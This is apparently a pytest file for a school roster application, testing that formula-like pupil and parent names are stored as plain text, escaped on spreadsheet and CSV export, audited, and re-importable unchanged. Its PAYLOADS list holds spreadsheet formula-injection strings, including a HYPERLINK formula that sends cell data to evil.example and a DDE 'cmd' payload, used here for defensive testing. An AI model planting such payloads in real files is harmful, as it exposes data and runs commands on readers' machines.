"""Formula injection: names that look like formulas are stored as text and never exported as formulas; the
roster downloads in the template's format and re-importing that download changes nothing."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from app.auth.models import User
from app.core.audit import AuditAction, AuditEntry
from app.core.encryption import blind_index
from app.core.models import Pupil
from app.extensions import db
from app.roster import workbook
from app.roster.columns import Sheet
from tests.factories import login
from tests.roster.support import (
    PARENT_HEADER,
    PUPIL_HEADER,
    commit,
    csv_file,
    iin,
    import_file,
    preview_path,
    report,
    upload,
)

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
IINS = [iin(9200 + n) for n in range(len(PAYLOADS))]


def _formula_files() -> list[tuple[str, bytes]]:
    pupils = csv_file(PUPIL_HEADER, [["7А", payload, "Бала", "", value, "", "", "", ""]
                                     for payload, value in zip(PAYLOADS, IINS, strict=True)])
    parents = csv_file(PARENT_HEADER, [[IINS[0], "", "=1+1", "@Ана", "", "mother", "+77015550000", "", ""]])
    return [("pupils.csv", pupils), ("parents.csv", parents)]


def _stored_surnames() -> list[str]:
    db.session.expire_all()
    return [db.session.execute(select(Pupil).where(Pupil.iin_bidx == blind_index(v, scope="iin"))).scalar_one()
            .last_name for v in IINS]


def test_formula_like_names_are_warned_about_and_stored_as_plain_text(client, world, year):
    login(client, world.a1)
    preview = preview_path(upload(client, world.s1.id, _formula_files(), year=year))
    page = client.get(preview).get_data(as_text=True)
    warned = {(sheet, row) for sheet, row, _column, message in report(page) if "read as a formula" in message}
    assert warned == {("Pupils", 2), ("Pupils", 3), ("Pupils", 4), ("Pupils", 5), ("Parents", 2)}
    assert 'href="http://evil' not in page, "shown as text, never as a link"
    assert commit(client, preview).status_code == 302
    assert _stored_surnames() == PAYLOADS
    parent = db.session.execute(select(User).where(User.phone == "+77015550000")).scalar_one()
    assert parent.full_name == "=1+1 @Ана"


def test_exports_escape_formula_like_names_and_re_import_unchanged(client, world, year):
    login(client, world.a1)
    import_file(client, world.s1.id, _formula_files(), year=year)
    exported = client.get(f"/roster/schools/{world.s1.id}/roster.xlsx")
    assert exported.status_code == 200
    sheets = load_workbook(io.BytesIO(exported.data))
    pupils = sheets["Pupils"]
    surnames = {row[1].value: row[1].data_type for row in pupils.iter_rows(min_row=2)}
    for payload in PAYLOADS:
        assert surnames.get("'" + payload) == "s", payload  # a text cell with the apostrophe, not a formula
    assert all(cell.data_type != "f" for ws in sheets.worksheets for row in ws.iter_rows() for cell in row)
    as_csv = client.get(f"/roster/schools/{world.s1.id}/pupils.csv")
    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig")), delimiter=";"))
    assert {r[1] for r in rows[1:]} >= {"'" + p for p in PAYLOADS}
    parents = list(csv.reader(io.StringIO(client.get(f"/roster/schools/{world.s1.id}/parents.csv")
                                          .data.decode("utf-8-sig")), delimiter=";"))
    assert ["'=1+1", "'@Ана"] in [row[2:4] for row in parents if "'+77015550000" in row]
    page = client.get(preview_path(upload(client, world.s1.id, [("roster.xlsx", exported.data)], year=year)))
    assert "importing it changes nothing" in page.get_data(as_text=True)
    assert _stored_surnames() == PAYLOADS


def test_export_is_audited_and_asks_for_the_password_again(client, world, year):
    from datetime import timedelta

    from sqlalchemy import update

    from app.auth.models import UserSession
    from app.core.models import utcnow

    login(client, world.a1)
    response = client.get(f"/roster/schools/{world.s1.id}/roster.xlsx")
    assert response.status_code == 200
    (entry,) = db.session.execute(select(AuditEntry).where(AuditEntry.action == AuditAction.ROSTER_EXPORT)).scalars()
    assert entry.school_id == world.s1.id and '"pupils": 2' in entry.details
    db.session.execute(update(UserSession).values(reauth_at=utcnow() - timedelta(minutes=6)))
    db.session.commit()
    stale = client.get(f"/roster/schools/{world.s1.id}/roster.xlsx")
    assert stale.status_code == 302 and "/reauth" in stale.headers["Location"]


def test_templates_have_the_headers_of_the_readers_language(app_ctx):
    from flask_babel import force_locale

    with app_ctx.test_request_context(), force_locale("kk"):
        book = load_workbook(io.BytesIO(workbook.xlsx_workbook("kk")))
        text = workbook.csv_sheet(Sheet.PUPILS, "ru").decode("utf-8-sig")
    assert book.sheetnames == ["Сыныптар", "Оқушылар", "Ата-аналар", "Анықтама"]
    assert [c.value for c in book["Оқушылар"][1]][:5] == ["Сынып", "Тегі", "Аты", "Әкесінің аты", "ЖСН"]
    assert book["Оқушылар"].column_dimensions["E"].number_format == "@", "IINs keep their leading zeros"
    assert text.splitlines()[0].startswith("Класс;Фамилия;Имя;Отчество;ИИН")
    assert book["Оқушылар"].max_row == 1
